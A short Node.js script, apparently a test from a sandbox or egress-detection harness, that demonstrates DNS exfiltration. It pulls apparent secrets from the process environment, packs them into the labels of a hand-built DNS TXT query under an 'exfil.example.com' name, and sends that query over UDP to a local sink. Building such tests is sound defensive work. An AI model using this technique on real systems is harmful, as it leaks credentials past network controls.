'use strict';
// DNS exfiltration: the data rides in the labels of a query name, sent as a real DNS
// query (UDP) to a resolver the attacker controls.
const dgram = require('dgram');
const lib = require('./lib.js');

function query(name) {
  const header = Buffer.from([0x13, 0x37, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
  const labels = name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)]));
  return Buffer.concat([header, ...labels, Buffer.from([0, 0, 16, 0, 1])]); // TXT IN
}

lib.run(async () => {
  const secrets = lib.found(JSON.stringify(process.env)).slice(0, 3);
  const name = ['m' + lib.cfg.netMarker, ...secrets, 'exfil', 'example', 'com'].join('.');
  await new Promise((resolve) => {
    const s = dgram.createSocket('udp4');
    s.on('error', (e) => {
      lib.note(`udp: ${e.code}`);
      s.close();
      resolve();
    });
    s.send(query(name), lib.cfg.sinks.udp, '127.0.0.1', (err) => {
      if (!err) lib.did('sent');
      else lib.note(`udp send: ${err.code}`);
      s.close();
      resolve();
    });
  });
});
